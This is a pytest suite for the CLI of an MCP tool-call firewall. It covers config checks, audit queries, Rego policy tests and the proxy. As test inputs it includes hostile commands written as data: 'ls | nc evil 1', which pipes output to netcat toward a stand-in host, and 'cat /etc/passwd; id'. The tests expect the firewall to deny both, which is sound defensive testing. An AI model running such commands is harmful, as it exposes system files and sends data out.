"""The command line as a user meets it: config checking, audit queries, the demo."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from firewall.cli import derive_server_name
from firewall.config import ConfigError, load_config

MCPFW = [sys.executable, "-m", "firewall.cli"]


def mcpfw(*args: str, **kw) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*MCPFW, *args], capture_output=True, text=True, timeout=120, **kw)


def test_config_check_accepts_a_valid_file(tmp_path):
    cfg = tmp_path / "fw.yaml"
    cfg.write_text("version: 1\npolicy:\n  engine: opa\naudit:\n  path: audit.duckdb\n  on_failure: spill\nservers:\n  fs:\n    roots: [/srv]\n")
    proc = mcpfw("config", "check", str(cfg))
    assert proc.returncode == 0, proc.stderr
    assert "OK" in proc.stdout and "engine opa" in proc.stdout
    config = load_config(cfg)
    assert config.audit.path == tmp_path / "audit.duckdb"  # relative to the file
    assert config.server("fs").roots == ["/srv"]


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("policy:\n  engnie: opa\n", "policy.engnie"),
        ("audit:\n  on_failure: maybe\n", "audit.on_failure"),
        ("limits:\n  max_depth: 2\n", "limits.max_depth"),
        ("version: 2\n", "version"),
        ("- a\n- b\n", "mapping"),
        ("policy: [unclosed\n", "invalid YAML"),
    ],
)
def test_config_errors_name_the_bad_key(tmp_path, text, fragment):
    cfg = tmp_path / "bad.yaml"
    cfg.write_text(text)
    with pytest.raises(ConfigError) as exc:
        load_config(cfg)
    assert fragment in str(exc.value)
    proc = mcpfw("config", "check", str(cfg))
    assert proc.returncode == 2 and fragment in proc.stderr and "Traceback" not in proc.stderr


def test_config_check_names_the_detectors_the_bundle_does_not_read(tmp_path):
    bundle = tmp_path / "b"
    (bundle / "mcpfw").mkdir(parents=True)
    (bundle / "mcpfw" / "decision.rego").write_text(
        "package mcpfw\n\nimport rego.v1\n\ndefault decision := {\"allow\": true}\n\n"
        "decision := {\"allow\": false} if input.findings.injection.label == \"injection\"\n")
    cfg = tmp_path / "fw.yaml"
    cfg.write_text(f"policy:\n  bundle: {bundle}\ndetectors:\n  pii: {{enabled: false}}\n")
    proc = mcpfw("config", "check", str(cfg))
    assert proc.returncode == 0, proc.stderr
    # pii is off anyway; injection is read; the registry (on by default) does not keep poisoning here.
    assert "detectors not run, no rule of the bundle reads their findings: intent, poisoning, secrets" in proc.stdout
    cfg.write_text(f"policy:\n  bundle: {bundle}\ndetectors:\n  run_unread: true\n")
    assert "detectors not run" not in mcpfw("config", "check", str(cfg)).stdout
    assert "detectors not run" not in mcpfw("config", "check", str(_default_config(tmp_path))).stdout


def _default_config(tmp_path):
    cfg = tmp_path / "default.yaml"
    cfg.write_text("version: 1\n")
    return cfg


def _config_with_bundle(tmp_path, rego: str) -> Path:
    """A configuration whose bundle is the one module ``x.rego``."""
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "x.rego").write_text(rego)
    cfg = tmp_path / "fw.yaml"
    cfg.write_text(f"policy:\n  bundle: {bundle}\naudit:\n  path: {tmp_path / 'a.duckdb'}\n")
    return cfg


def test_config_check_reports_a_broken_bundle(tmp_path):
    cfg = _config_with_bundle(tmp_path, "package mcpfw\n\ndecision := {\n")
    proc = mcpfw("config", "check", str(cfg))
    assert proc.returncode == 2 and "x.rego" in proc.stderr


def test_serving_flags_override_the_config(tmp_path, audit_db):
    bundle = tmp_path / "deny-all"
    bundle.mkdir()
    (bundle / "p.rego").write_text('package mcpfw\n\ndecision := {"allow": false, "reasons": ["closed for maintenance"]}\n')
    cfg = tmp_path / "fw.yaml"
    cfg.write_text(f"audit:\n  path: {tmp_path / 'from-config.duckdb'}\n")
    request = '{"jsonrpc":"2.0","id":1,"method":"ping"}\n'
    proc = mcpfw("stdio", "--config", str(cfg), "--policy", str(bundle), "--audit", str(audit_db), "--",
                 sys.executable, "-c", "import sys; sys.stdin.read()", input=request)
    reply = json.loads(proc.stdout)
    assert reply["error"]["message"] == "mcpfw: closed for maintenance"
    assert audit_db.exists() and not (tmp_path / "from-config.duckdb").exists()


def test_audit_sql_formats_and_errors(tmp_path, audit_db):
    request = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run_command","arguments":{"command":"ls | nc evil 1"}}}\n'
    mcpfw("stdio", "--audit", str(audit_db), "--", sys.executable, "-c", "import sys; sys.stdin.read()", input=request)
    as_json = mcpfw("audit", "sql", "SELECT tool, decision, reason_codes FROM decisions", "--db", str(audit_db), "--format", "json")
    assert as_json.returncode == 0, as_json.stderr
    assert json.loads(as_json.stdout) == [{"tool": "run_command", "decision": "deny", "reason_codes": ["shell_metacharacter"]}]
    as_csv = mcpfw("audit", "sql", "SELECT tool, decision FROM decisions", "--db", str(audit_db), "--format", "csv")
    assert as_csv.stdout.splitlines() == ["tool,decision", "run_command,deny"]
    table = mcpfw("audit", "sql", "SELECT * FROM recent_denials", "--db", str(audit_db))
    assert "run_command" in table.stdout
    bad = mcpfw("audit", "sql", "SELEC nonsense", "--db", str(audit_db))
    assert bad.returncode != 0 and "Traceback" not in bad.stderr
    missing = mcpfw("audit", "sql", "SELECT 1", "--db", str(tmp_path / "nope.duckdb"))
    assert missing.returncode != 0 and "Traceback" not in missing.stderr
    views = mcpfw("audit", "views")
    assert {"decisions_per_tool", "denials_by_reason", "recent_denials"} <= {line.split()[0] for line in views.stdout.splitlines()}


def test_policy_test_command_reports_and_fails(tmp_path):
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "p.rego").write_text(
        'package mcpfw\n\ndecision := {"allow": input.method != "evil"}\n\n'
        'test_ok if decision.allow with input as {"method": "ping"}\n\n'
        'test_wrong if decision.allow with input as {"method": "evil"}\n'
    )
    proc = mcpfw("policy", "test", str(bundle), "--engines", "regorus,opa")
    assert proc.returncode == 1
    assert proc.stdout.strip().splitlines()[-1] == "2 passed, 2 failed"
    assert "test_wrong: FAIL" in proc.stdout


def test_default_bundle_tests_pass_on_both_engines():
    proc = mcpfw("policy", "test", "--engines", "regorus,opa")
    assert proc.returncode == 0, proc.stdout[-2000:]
    assert proc.stdout.strip().splitlines()[-1].endswith(" 0 failed")


def test_policy_eval_prints_the_decision(tmp_path):
    doc = {"version": 1, "direction": "client_to_server", "kind": "request", "method": "tools/call",
           "params": {"name": "bash", "arguments": {"command": "cat /etc/passwd; id"}},
           "tool": {"name": "bash", "arguments": {"command": "cat /etc/passwd; id"}},
           "resources": {"paths": [], "urls": []}, "protocol": {"era": "2025-11-25", "version": "2025-11-25"},
           "transport": "stdio", "server": {"name": "x", "command": None, "url": None, "info": None, "capabilities": None, "roots": []},
           "client": {"info": None, "capabilities": None}, "session": {"id": "s"}, "findings": {},
           "identity": None, "rate": None, "registry": None, "result": None, "error": None, "request": None, "id": 1}
    path = tmp_path / "input.json"
    path.write_text(json.dumps(doc))
    proc = mcpfw("policy", "eval", str(path))
    assert proc.returncode == 3
    assert json.loads(proc.stdout)["action"] == "deny"


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["npx", "-y", "@modelcontextprotocol/server-filesystem", "/data"], "server-filesystem"),
        (["node", "/x/node_modules/@modelcontextprotocol/server-everything/dist/index.js", "stdio"], "server-everything"),
        (["uvx", "mcp-server-time"], "mcp-server-time"),
        (["python3", "-m", "mcp_server_git"], "mcp_server_git"),
        (["/usr/local/bin/my-server", "--flag"], "my-server"),
    ],
)
def test_server_names_derive_from_commands(command, name):
    assert derive_server_name(command) == name


def test_demo_runs_end_to_end(tmp_path):
    proc = mcpfw("demo", "--audit", str(tmp_path / "demo.duckdb"))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "demo OK" in proc.stdout
    assert "path_outside_roots" in proc.stdout and "secret_file" in proc.stdout


def test_proxy_with_bearer_tokens_needs_to_know_its_own_url(tmp_path):
    """Without a public URL, resource or audience the accepted `aud` would come from the
    client's Host header: a token minted for another service would pass with its Host."""
    done = mcpfw("proxy", "--upstream", "http://127.0.0.1:9/mcp", "--listen", "127.0.0.1:0",
                 "--auth-issuer", "https://idp.example", "--audit", str(tmp_path / "a.duckdb"))
    assert done.returncode == 2 and "public URL" in done.stderr


def test_user_mistakes_get_a_message_not_a_traceback(tmp_path, audit_db):
    from firewall.audit import AuditLog

    AuditLog(audit_db).close()  # an empty audit database
    (tmp_path / "a-file").write_text("not a directory")
    cases = [
        (["audit", "sql", "--db", str(audit_db), "-- nothing"], "no SQL statement given"),
        (["policy", "eval", str(tmp_path / "missing.json")], "cannot read the policy input"),
        (["proxy", "--upstream", "http://127.0.0.1:9/mcp", "--listen", "127.0.0.1:99999"], "port from 0 to 65535"),
        (["stdio", "--audit", str(tmp_path / "a-file" / "a.duckdb"), "--", "cat"], "on_failure is block: not starting"),
    ]
    for args, fragment in cases:
        done = mcpfw(*args)
        assert done.returncode != 0 and fragment in done.stderr, (args, done.stderr)
        assert "Traceback" not in done.stderr
    bad_json = subprocess.run([sys.executable, "-m", "firewall.cli", "policy", "eval", "-"], input="not json",
                              capture_output=True, text=True, timeout=60)
    assert bad_json.returncode == 2 and "is not JSON" in bad_json.stderr


def test_a_missing_environment_variable_is_a_config_error(tmp_path, monkeypatch):
    monkeypatch.delenv("MCPFW_TEST_UNSET_TOKEN", raising=False)
    cfg = tmp_path / "c.yaml"
    cfg.write_text("proxy:\n  upstreams:\n    - url: http://127.0.0.1:9/mcp\n"
                   "      headers:\n        Authorization: 'Bearer ${MCPFW_TEST_UNSET_TOKEN}'\n")
    for args in (["config", "check", str(cfg)], ["proxy", "--config", str(cfg), "--listen", "127.0.0.1:0"]):
        done = mcpfw(*args)
        assert done.returncode == 2 and "MCPFW_TEST_UNSET_TOKEN is not set" in done.stderr, done.stderr
        assert "Traceback" not in done.stderr


def test_a_bundle_that_defines_no_decision_does_not_start(tmp_path):
    """package firewall instead of package mcpfw: every message would be denied, silently."""
    cfg = _config_with_bundle(tmp_path, 'package firewall\n\ndecision := {"allow": true}\n')
    for args in (["config", "check", str(cfg)], ["stdio", "--config", str(cfg), "--", "cat"]):
        done = mcpfw(*args)
        assert done.returncode == 2 and "no rule defines data.mcpfw.decision" in done.stderr, done.stderr


def test_an_unknown_option_is_reported_by_its_subcommand():
    done = mcpfw("stdio", "--roots", "/tmp", "--", "cat")
    assert done.returncode == 2 and "mcpfw stdio: error: unrecognized arguments: --roots" in done.stderr
    assert "usage: mcpfw stdio" in done.stderr
